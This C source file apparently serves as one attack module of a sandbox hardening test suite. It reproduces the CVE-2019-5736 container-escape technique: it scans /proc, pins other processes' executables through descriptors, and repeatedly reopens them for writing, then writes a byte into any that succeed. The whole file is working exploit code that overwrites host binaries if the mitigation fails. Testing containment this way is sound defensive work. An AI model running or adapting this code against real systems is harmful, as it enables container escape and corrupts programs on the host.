/* Programs of other processes, overwritten while they run or as soon as they end (CVE-2019-5736): each executable that
 * shows up in /proc is held by a descriptor, and opened for writing through it again and again.
 * argv: how many of them, how often each, and what the paths of programs that do not count begin with. */
#include "attack.h"

#include <dirent.h>
#include <time.h>

enum { MAX_SECONDS = 60, PAUSE_US = 100 };

/* 1 where it could be written to, 0 where it was tried, -1 where there was nothing to try on. */
static int try_on(const char *pid, int times, const char *uncounted)
{
    char path[64], program[512] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (readlink(path, program, sizeof program - 1) < 0)
        return errno == EACCES || errno == EPERM ? 0 : -1;
    if (strncmp(program, uncounted, strlen(uncounted)) == 0)
        return -1;
    int result = 0, exe = open(path, O_PATH | O_CLOEXEC);
    if (exe < 0)
        return errno == EACCES || errno == EPERM ? 0 : -1;
    snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
    /* It may have become another program in between. */
    memset(program, 0, sizeof program);
    if (readlink(path, program, sizeof program - 1) < 0 || strncmp(program, uncounted, strlen(uncounted)) == 0)
        times = 0;
    for (int i = 0; result == 0 && i < times; i++) {
        int writable = open(path, O_WRONLY | O_CLOEXEC);
        /* A sealed memfd can be opened when nobody runs it any more, and still not be written to. */
        result = writable >= 0 && pwrite(writable, "", 1, 0) == 1;
        if (writable >= 0)
            close(writable);
        else
            usleep(PAUSE_US);
    }
    close(exe);
    return result;
}

static long attack(char **argv)
{
    time_t end = time(NULL) + MAX_SECONDS;
    int own = getpid();
    for (int tried = 0; tried < atoi(argv[1]) && time(NULL) < end;) {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; proc && (entry = readdir(proc));) {
            int pid = atoi(entry->d_name);
            int result = pid > 0 && pid != own ? try_on(entry->d_name, atoi(argv[2]), argv[3]) : -1;
            if (result > 0)
                return 0;
            tried += result == 0 && pid != 1;
        }
        if (proc)
            closedir(proc);
    }
    errno = EPERM;
    return -1;
}
